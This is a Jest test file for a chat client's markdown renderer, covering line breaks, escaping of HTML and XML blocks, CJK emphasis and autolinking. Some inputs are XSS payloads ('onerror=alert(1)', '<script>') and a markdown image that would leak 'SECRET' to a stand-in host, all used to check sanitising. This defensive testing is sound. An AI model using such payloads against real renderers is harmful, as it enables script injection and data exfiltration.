import { describe, expect, it } from '@jest/globals';
import { render } from '@testing-library/react';
import { MarkdownText } from '../../../client/conversation/markdown/MarkdownText.tsx';

function draw(text: string): HTMLElement {
  return render(<MarkdownText text={text} />).container;
}

/** The elements of a kind, by their text. */
const textsOf = (drawn: HTMLElement, selector: string) =>
  [...drawn.querySelectorAll(selector)].map((element) => element.textContent);

/** The text as it is read: line breaks and the ends of blocks are line breaks. */
function linesOf(drawn: HTMLElement): string[] {
  const copy = drawn.cloneNode(true) as HTMLElement;
  for (const element of copy.querySelectorAll('br')) element.replaceWith('\n');
  for (const element of copy.querySelectorAll('p, li, h3, h4, tr, pre')) element.append('\n');
  return (copy.textContent ?? '').split('\n').filter((line) => line.trim() !== '');
}

describe('lines of a reply', () => {
  it.each([
    ['a signature', 'Best regards,\nBob', ['Best regards,', 'Bob']],
    ['Windows line ends', 'one\r\ntwo\r\nthree', ['one', 'two', 'three']],
    ['a poem with emphasis', '*Rose*\nis a **rose**\nis a rose', ['Rose', 'is a rose', 'is a rose']],
    [
      'an address in a list',
      '- Acme Ltd\n  1 High Street\n  London\n- Other',
      ['Acme Ltd', '1 High Street', 'London', 'Other'],
    ],
    ['a quotation', '> one\n> two', ['one', 'two']],
    ['a status', 'Current task: complete\nNext task: review', ['Current task: complete', 'Next task: review']],
  ])('keeps the lines of %s', (_, text, lines) => {
    const drawn = draw(text);
    expect(linesOf(drawn)).toEqual(lines);
    expect(drawn.querySelectorAll('br').length).toBeGreaterThan(0);
  });

  it('draws no second break for two spaces or a backslash at the end of a line', () => {
    expect(draw('one  \ntwo\\\nthree').querySelectorAll('br')).toHaveLength(2);
  });

  it('adds no breaks to code', () => {
    const drawn = draw('```\na\nb\n```');
    expect(drawn.querySelector('pre')?.textContent).toBe('a\nb');
    expect(drawn.querySelector('br')).toBeNull();
  });
});

describe('XML and HTML in a reply', () => {
  it.each([
    '<instructions>\nBe brief.\nUse *plain* words.\n</instructions>',
    '<output_format>\n- one\n- two\n</output_format>',
    '<example>\n    <input lang="en">a</input>\n  <output/>\n</example>',
    '<user_query lang="en" id=\'4\'>\nWhat is 2 < 3?\n</user_query>',
    '<BDS:create_file>\n<path>a.ts</path>\n</BDS:create_file>',
    '<指令>\n请用中文回答。\n</指令>',
    '<|im_start|>\nuser\n<|im_end|>',
    '<input type="text" name="username">\n<button>Click me</button>\n<a href="https://example.com">Example link</a>',
    '<div align="center">\n  <b>Title</b>\n</div>',
    '<!-- a comment\n     of two lines -->',
    '<script>\nlet a = 1;\n\nlet b = 2;\n</script>',
    '<details>\n<summary>More</summary>\nText\n</details>',
  ])('sets the block %j as text with its lines', (text) => {
    const drawn = draw(text);
    expect(drawn.textContent).toBe(text);
    expect(drawn.querySelectorAll('p')).toHaveLength(1);
    expect(drawn.querySelector('script, input, button, details, a')).toBeNull();
  });

  it('begins a block with a tag on a line of its own, directly behind a paragraph too', () => {
    const drawn = draw('Here is the prompt:\n<role>\n  You are an editor.\n</role>');
    expect(textsOf(drawn, 'p')).toEqual(['Here is the prompt:', '<role>\n  You are an editor.\n</role>']);
  });

  it.each(['steps', 'user_steps'])('does not draw a closing </%s> as part of the list before it', (tag) => {
    const drawn = draw(`<${tag}>\n\n1. Read\n2. Write\n</${tag}>\n\nDone`);
    expect(textsOf(drawn, 'li')).toEqual(['Read', 'Write']);
    expect(textsOf(drawn, 'p')).toEqual([`<${tag}>`, `</${tag}>`, 'Done']);
  });

  it('draws what follows a block after an empty line', () => {
    expect(textsOf(draw('<role>\n\n**An editor**\n\n</role>'), 'strong')).toEqual(['An editor']);
  });

  it.each([
    ['Use the <br> tag here', 'Use the <br> tag here'],
    ['<b>bold</b> and <kbd>Ctrl</kbd>', '<b>bold</b> and <kbd>Ctrl</kbd>'],
    ['a <thinking>b</thinking> c', 'a <thinking>b</thinking> c'],
    ['Generic Map<string, number> here', 'Generic Map<string, number> here'],
    ['x <sub>open', 'x <sub>open'],
    ['x</sup> closed', 'x</sup> closed'],
    ['x<sub class="a">2</sub>', 'x<sub class="a">2</sub>'],
    ['**a<sub>b** c</sub>', 'a<sub>b c</sub>'],
    ['<dc:title> and <ns:a b="c">', '<dc:title> and <ns:a b="c">'],
  ])('draws %j as text', (text, read) => {
    const drawn = draw(text);
    expect(drawn.textContent).toBe(read);
    expect(drawn.querySelector('sub, sup, br, b, kbd')).toBeNull();
  });

  it('keeps the lines of a tag over several lines', () => {
    expect(linesOf(draw('Call <tool\nname="x"\nid="y"> now'))).toEqual(['Call <tool', 'name="x"', 'id="y"> now']);
  });

  it('draws sub and sup', () => {
    const drawn = draw(
      'H<sub>2</sub>O, E = mc<sup>2</sup>, x<SUB>i</SUB><sup>**n**</sup>, 1<sup>st</sup>\n\n| a<sub>1</sub> |\n|---|',
    );
    expect(textsOf(drawn, 'sub')).toEqual(['2', 'i', '1']);
    expect(textsOf(drawn, 'sup')).toEqual(['2', 'n', 'st']);
    expect(textsOf(drawn, 'sup strong')).toEqual(['n']);
    expect(drawn.textContent).not.toContain('<');
  });

  it('breaks at <br> in a table cell, however it is written', () => {
    const drawn = draw(
      '| a | b<br>c |\n|---|---|\n| • x<br>• y<br/>• z | 1<br />2<BR>3</br>4 |\n| `<br>` | &lt;br&gt; |',
    );
    expect(textsOf(drawn, 'th')).toEqual(['a', 'b\nc']);
    expect(textsOf(drawn, 'td')).toEqual(['• x\n• y\n• z', '1\n2\n3\n4', '<br>', '<br>']);
    expect(drawn.querySelectorAll('td br')).toHaveLength(5);
  });

  it('draws no element of other HTML, in a table cell either', () => {
    const drawn = draw('| <img src=x onerror=alert(1)><b>a</b> |\n|---|\n| <script>alert(1)</script> |');
    expect(drawn.querySelector('img, b, script')).toBeNull();
    expect(textsOf(drawn, 'td')).toEqual(['<script>alert(1)</script>']);
  });

  it('nests sub and sup only as deep as anybody reads', () => {
    const drawn = draw(`x${'<sub>'.repeat(5_000)}a${'</sub>'.repeat(5_000)}`);
    expect(drawn.querySelectorAll('sub').length).toBeLessThan(5);
    expect(drawn.textContent).toContain('a');
  });
});

it('draws a remote image as a link', () => {
  const drawn = draw('![a chart](https://evil.test/?q=SECRET)');
  expect(textsOf(drawn, 'a[href="https://evil.test/?q=SECRET"]')).toEqual(['a chart']);
  expect(drawn.querySelector('img')).toBeNull();
});

describe('Chinese, Japanese and Korean in a reply', () => {
  it.each([
    ['**强调（重点）**文字', '强调（重点）'],
    ['**中文文本（带括号）。**这句子继续也没问题。', '中文文本（带括号）。'],
    ['**重要提示（Important Notice）：**请注意。', '重要提示（Important Notice）：'],
    ['他说**「重要」**的事', '「重要」'],
    ['**“别再点 Install”**不是你的操作问题', '“别再点 Install”'],
    ['**别再点 Install，忽略它。**不是', '别再点 Install，忽略它。'],
    ['**Markdown（マークダウン）**は軽量マークアップ言語です。', 'Markdown（マークダウン）'],
    ['**この文を強調できますか（Can I?）？**残念ながら', 'この文を強調できますか（Can I?）？'],
    ['**이 용어(This term)**를 강조해 주세요.', '이 용어(This term)'],
    ['**"강조"**는 중요합니다', '"강조"'],
    ['我可以强调**这个`code`**吗', '这个code'],
    ['1. **标题：**内容', '标题：'],
    ['**《红楼梦》**是', '《红楼梦》'],
    ['**50%**的人', '50%'],
    ['__重点（注）__ 文字', '重点（注）'],
    ['a **bold** word', 'bold'],
  ])('emphasises in %j', (text, strong) => {
    const drawn = draw(text);
    expect(textsOf(drawn, 'strong')).toEqual([strong]);
    expect(drawn.textContent).not.toContain('**');
  });

  it.each([
    ['*这是斜体（带括号）。*这句子继续。', 'em', '这是斜体（带括号）。'],
    ['~~删除的文字（带括号）。~~这个句子是正确的。', 'del', '删除的文字（带括号）。'],
    ['~~gone~~', 'del', 'gone'],
  ])('draws %j with <%s>', (text, element, read) => {
    expect(textsOf(draw(text), element)).toEqual([read]);
  });

  it.each([
    '10~20人，价格30~40元',
    '5~7U 保证金 × 100~200倍杠杆',
    '8~9点 或 10~11点',
    '~5 and ~6 people',
    '3~5일, 7~10일',
    'a~b~c',
  ])('strikes nothing in %j', (text) => {
    const drawn = draw(text);
    expect(drawn.querySelector('del')).toBeNull();
    expect(drawn.textContent).toBe(text);
  });

  it.each([
    ['请访问https://example.com。谢谢', ['https://example.com']],
    ['见 https://github.com/issues/477，涵盖了', ['https://github.com/issues/477']],
    ['（https://example.com/a_(b)）', ['https://example.com/a_(b)']],
    ['「https://example.jp/パス?q=1」を開く', ['https://example.jp/パス?q=1']],
    ['链接：https://a.example/x、https://b.example/y；完', ['https://a.example/x', 'https://b.example/y']],
    ['网址：www.example.com，好', ['http://www.example.com']],
    ['**见 https://example.com/x**，后', ['https://example.com/x']],
    ['**https://example.com。**后文', ['https://example.com']],
    ['**https://example.com**是一个网站。', ['https://example.com']],
    ['“https://example.com/a”。', ['https://example.com/a']],
    ['https://example.com/a.，然后', ['https://example.com/a']],
    ['https://example.com……', ['https://example.com']],
    ['https://example.com——这是', ['https://example.com']],
    ['[见 https://example.com，好', ['https://example.com']],
    ['邮箱：foo@example.com，谢谢', ['mailto:foo@example.com']],
    ['https://example.com/a,b;c', ['https://example.com/a,b;c']],
    ['HTTPS://EXAMPLE.COM/A？', ['HTTPS://EXAMPLE.COM/A']],
    ['| 链接 |\n|---|\n| https://example.com。 |', ['https://example.com']],
    ['[文](https://example.com/a，b)', ['https://example.com/a，b']],
    ['<https://example.com/a，b>', ['https://example.com/a，b']],
  ])('links the addresses in %j', (text, addresses) => {
    const links = [...draw(text).querySelectorAll('a')].map((link) => decodeURI(link.getAttribute('href') ?? ''));
    expect(links).toEqual(addresses);
  });

  it('formats what follows an address', () => {
    const drawn = draw('https://example.com，**重点（注）**的');
    expect(textsOf(drawn, 'strong')).toEqual(['重点（注）']);
    expect(textsOf(drawn, 'a')).toEqual(['https://example.com']);
  });
});
